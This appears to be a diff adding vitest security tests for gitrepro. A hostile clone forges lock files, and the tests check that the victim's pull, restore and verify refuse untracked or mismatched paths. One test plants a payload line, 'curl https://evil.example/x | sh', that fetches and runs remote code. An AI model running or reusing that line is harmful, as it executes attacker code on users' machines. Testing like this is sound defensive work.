@@ -1,0 +1,118 @@
+/**
+ * Issue 10: a shared repository can never be turned against the people who clone it. Each test
+ * is the attack, written as the attacker would do it: two clones of one project, the hostile one
+ * using plumbing where it must (test/helpers/hostile.ts), the victim doing only ordinary git and
+ * gitrepro commands.
+ */
+import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { forgeLock, plantObject, pushRaw } from '../helpers/hostile.js';
+import { cloneOf, project } from '../helpers/remote.js';
+import { sha256 } from '../helpers/repo.js';
+
+/** Names of gitrepro temp files anywhere under `dir` (never left next to data). */
+function tempFiles(dir: string): string[] {
+  return readdirSync(dir, { recursive: true }).map(String).filter((f) => path.basename(f).startsWith('.gitrepro-tmp'));
+}
+
+describe('trust boundary: what arrives by pull', () => {
+  it('1. a lock naming code and a venv script outside track: writes nothing on git pull; verify fails naming commit and path', () => {
+    const { r: victim, bare, store } = project();
+    victim.write('src/train.py', 'print("train")\n');
+    victim.write('data/a.csv', 'a,b\n1,2\n');
+    victim.commit('start');
+    victim.git(['push', '-q', 'origin', 'main']);
+    const evil = cloneOf(victim, bare, 'evil');
+    const payload = plantObject(store, 'import os\nos.system("curl https://evil.example/x | sh")\n');
+    forgeLock(evil, { 'src/train.py': payload, '.venv/bin/activate': payload }, { message: 'refresh data' });
+    const bad = evil.head();
+    pushRaw(evil);
+
+    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
+    expect(victim.head()).toBe(bad); // git did its part
+    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
+    expect(victim.exists('.venv')).toBe(false);
+    expect(pull.stderr).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", which that commit's gitrepro\.yaml does not track: nothing of it was restored/);
+    expect(victim.read('data/a.csv').toString()).toBe('a,b\n1,2\n');
+    // a restore by hand refuses it too, and writes nothing
+    const restore = victim.gr(['restore'], { ok: [1] });
+    expect(restore.stderr).toMatch(/GITREPRO_SNAPSHOT_INVALID.*nothing of it was restored/);
+    expect(victim.exists('.venv')).toBe(false);
+    // the gate: verify fails for that commit, naming the path
+    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
+    expect(v.stdout).toContain(bad.slice(0, 12));
+    expect(v.stdout).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", which that commit's gitrepro\.yaml does not track/);
+  });
+
+  it('1b. a lock naming a file git tracks, under a track: pattern the same commit widened, is refused too', () => {
+    const { r: victim, bare, store } = project();
+    victim.write('src/train.py', 'print("train")\n');
+    victim.write('data/a.csv', 'a\n');
+    victim.commit('start');
+    victim.git(['push', '-q', 'origin', 'main']);
+    const evil = cloneOf(victim, bare, 'evil');
+    evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace('- /data/', '- /data/\n  - /src/'));
+    evil.git(['add', 'gitrepro.yaml']);
+    const payload = plantObject(store, 'print("owned")\n');
+    forgeLock(evil, { 'src/train.py': payload });
+    const bad = evil.head();
+    pushRaw(evil);
+    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
+    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
+    expect(pull.stderr).toMatch(/holds "src\/train\.py", a path that git itself tracks in that commit/);
+    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
+    expect(v.stdout).toMatch(/holds "src\/train\.py", a path git itself tracks in that commit/);
+  });
+
+  it('2. a data file that becomes a directory (and back) is recorded and restored both ways; no temp file is left or stored', () => {
+    const { r: a, bare } = project();
+    a.write('data/x', 'a file\n');
+    a.write('data/keep.csv', 'k\n');
+    a.commit('x is a file');
+    a.git(['push', '-q', 'origin', 'main']);
+    const b = cloneOf(a, bare, 'b');
+    // the file becomes a directory of two files
+    rmSync(a.path('data/x'));
+    a.write('data/x/one', '1\n');
+    a.write('data/x/two', '2\n');
+    a.commit('x is a directory');
+    expect(a.read('gitrepro.lock').toString()).toMatch(/^files 3$/m);
+    expect(a.grJson(['ls-files']).files.map((f: { path: string }) => f.path)).toEqual(['data/keep.csv', 'data/x/one', 'data/x/two']);
+    a.git(['push', '-q', 'origin', 'main']);
+
+    b.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
+    expect(b.manifest()).toEqual(a.manifest());
+    expect(b.grJson(['status']).clean).toBe(true);
+    // back to the commit where it was a file
+    b.git(['checkout', '-q', 'HEAD~1']);
+    expect(b.read('data/x').toString()).toBe('a file\n');
+    expect(b.grJson(['status']).clean).toBe(true);
+    expect(tempFiles(b.path('data'))).toEqual([]);
+    expect(b.gr(['add']).stdout).toMatch(/0 new object\(s\) stored/);
+    b.git(['checkout', '-q', 'main']);
+    expect(b.manifest()).toEqual(a.manifest());
+    expect(tempFiles(b.path('data'))).toEqual([]);
+  });
+
+  it('5. a pointer with the right sha256 and a wrong size is the commit\'s fault: the good object stays, the path is named', () => {
+    const { r: victim, bare } = project();
+    victim.write('data/a.bin', 'the real bytes\n');
+    victim.commit('a');
+    victim.git(['push', '-q', 'origin', 'main']);
+    const evil = cloneOf(victim, bare, 'evil');
+    const sha = sha256('the real bytes\n');
+    forgeLock(evil, { 'data/b.bin': { sha256: sha, size: 15 + 7 } });
+    const bad = evil.head();
+    pushRaw(evil);
+    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
+    expect(pull.stderr).toMatch(/data\/b\.bin.*pointer.*22 bytes.*15 bytes.*pointer is wrong/);
+    expect(victim.exists('data/b.bin')).toBe(false);
+    // nothing good was quarantined or deleted
+    expect(sha256(readFileSync(victim.objectPath(sha)))).toBe(sha);
+    expect(existsSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) ? readdirSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) : []).toEqual([]);
+    expect(victim.read('data/a.bin').toString()).toBe('the real bytes\n');
+    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
+    expect(v.stdout).toMatch(/pointer names object [0-9a-f]{12} with 22 bytes, but that object has 15 bytes and is intact/);
+  });
+});
